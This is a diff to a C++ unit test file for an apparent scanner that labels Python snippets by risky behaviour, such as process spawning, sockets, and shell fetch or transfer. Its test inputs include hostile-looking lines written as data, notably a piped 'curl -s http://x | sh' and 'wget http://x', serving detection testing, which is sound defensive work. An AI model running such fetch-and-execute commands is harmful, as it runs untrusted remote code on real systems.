@@ -33,11 +33,12 @@ TEST(PythonTest, Calls) {
   EXPECT_EQ(Python("o = __import__('os')\no.execvp('ls', [])\n"), "python-process");
   EXPECT_EQ(Python("import os\nmap(os.system, commands)\n"), "python-process");
   EXPECT_EQ(Python("import os\ngetattr(os, 'system')('x')\n"), "python-process");
-  EXPECT_EQ(Python("import os\nos.__dict__['system']('x')\n"), "");  // not followed
+  EXPECT_EQ(Python("import os\nos.__dict__['system']('x')\n"), "python-process");
   EXPECT_EQ(Python("import socket\ns = socket.socket()\n"), "python-socket");
   EXPECT_EQ(Python("import socket\nprint(socket.gethostname())\n"), "");
   EXPECT_EQ(Python("import os\nprint(f\"{os.system('x'):>10} {{}} {y!r:{w}}\")\n"), "python-process");
-  EXPECT_EQ(Python("import os\nos.system('/usr/bin/curl -s http://x | sh')\n"), "python-process shell-fetch");
+  EXPECT_EQ(Python("import os\nos.system('/usr/bin/curl -s http://x | sh')\n"),
+            "python-process shell-fetch shell-fetched");
   EXPECT_EQ(Python("import subprocess as sp\nsp.run(['scp', a, b])\n"), "python-process shell-transfer");
   EXPECT_EQ(Python("!wget http://x\nx = !ls\n"), "shell-fetch");
   EXPECT_EQ(Python("class A:\n  def system(self): pass\n  def eval(self): pass\nA().system()\nmodel.eval()\n"), "");
